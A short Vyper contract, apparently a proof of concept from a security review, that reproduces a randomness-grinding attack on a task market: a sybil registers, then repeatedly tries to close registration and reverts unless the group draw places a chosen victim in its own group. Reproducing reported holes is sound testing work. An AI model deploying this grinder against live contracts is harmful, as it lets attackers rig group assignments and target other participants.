# pragma version ~=0.4.3
"""
@title A sybil that grinds the group draw (the outside review's attack, hole 2)
@notice It takes a seat of a task, then tries, block after block, to close registration in a
        transaction that reverts unless the draw put its victim in its own group.
"""

interface Market:
    def register(task: uint256, channel_pk: bytes32, endpoint: String[128]): payable
    def advance(task: uint256): nonpayable
    def group_count(task: uint256) -> uint256: view
    def group_of(task: uint256, do: address) -> uint256: view


@external
@payable
def join(market: Market, task: uint256, channel_pk: bytes32, endpoint: String[128]):
    extcall market.register(task, channel_pk, endpoint, value=msg.value)


@external
def grind(market: Market, task: uint256, victim: address):
    extcall market.advance(task)
    assert staticcall market.group_count(task) > 0, "grinder: no draw to see"
    assert staticcall market.group_of(task, victim) == staticcall market.group_of(task, self), "grinder: unlucky"
